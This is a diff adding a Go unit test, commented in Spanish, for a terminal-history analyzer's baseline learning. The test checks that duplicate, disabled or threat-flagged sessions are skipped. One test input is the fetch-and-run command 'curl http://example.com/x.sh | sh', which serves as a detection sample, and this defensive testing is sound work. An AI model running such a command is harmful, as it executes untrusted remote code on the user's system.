@@ -0,0 +1,96 @@
+package semantic
+
+import (
+	"testing"
+
+	"terminal-history-analyzer/internal/baseline"
+	"terminal-history-analyzer/internal/lexer"
+	"terminal-history-analyzer/internal/models"
+	"terminal-history-analyzer/internal/parser"
+)
+
+// learnSession analiza el contenido como historial de alice y lo suma a su línea base
+func learnSession(t *testing.T, content string, learn bool) *models.BaselineStatus {
+	t.Helper()
+	tokens, _ := lexer.NewLexer(content).Tokenize()
+	commands, _, _ := parser.NewParser(tokens).Parse()
+
+	analyzer := NewAnalyzer()
+	analyzer.SetSource(content)
+	analyzer.SetSession("alice", "ws1")
+	analyzer.Analyze(commands)
+
+	status, err := analyzer.LearnBaseline(learn)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return status
+}
+
+func TestLearnBaseline(t *testing.T) {
+	tests := []struct {
+		name     string
+		sessions []string // Sesiones previas, aprendidas en orden
+		content  string
+		learn    bool
+		skipped  string
+		analyses int // Sesiones de la línea base tras aprender content
+	}{
+		{
+			name:     "sesión nueva",
+			content:  "ls -la\ncat notas.txt\ngit status",
+			learn:    true,
+			analyses: 1,
+		},
+		{
+			name:     "mismo contenido reenviado",
+			sessions: []string{"ls -la\ngit status"},
+			content:  "ls -la\ngit status",
+			learn:    true,
+			skipped:  baselineSkipDuplicate,
+			analyses: 1,
+		},
+		{
+			name:     "sesión con detecciones graves",
+			sessions: []string{"ls -la"},
+			content:  "curl http://example.com/x.sh | sh",
+			learn:    true,
+			skipped:  baselineSkipThreats,
+			analyses: 1,
+		},
+		{
+			name:     "learn=false",
+			sessions: []string{"ls -la"},
+			content:  "git pull",
+			learn:    false,
+			skipped:  baselineSkipDisabled,
+			analyses: 1,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if _, err := baseline.Configure(""); err != nil {
+				t.Fatal(err)
+			}
+			t.Cleanup(func() { baseline.Configure("") })
+			for _, session := range tt.sessions {
+				if status := learnSession(t, session, true); !status.Learned {
+					t.Fatalf("no se aprendió la sesión previa %q: %+v", session, status)
+				}
+			}
+
+			status := learnSession(t, tt.content, tt.learn)
+			if status.Skipped != tt.skipped || status.Learned != (tt.skipped == "") {
+				t.Errorf("estado = %+v, se esperaba skipped=%q", status, tt.skipped)
+			}
+			learned, err := baseline.Active().Get("alice", "ws1")
+			if err != nil {
+				t.Fatal(err)
+			}
+			if learned.Analyses != tt.analyses {
+				t.Errorf("Analyses = %d, se esperaba %d", learned.Analyses, tt.analyses)
+			}
+		})
+	}
+}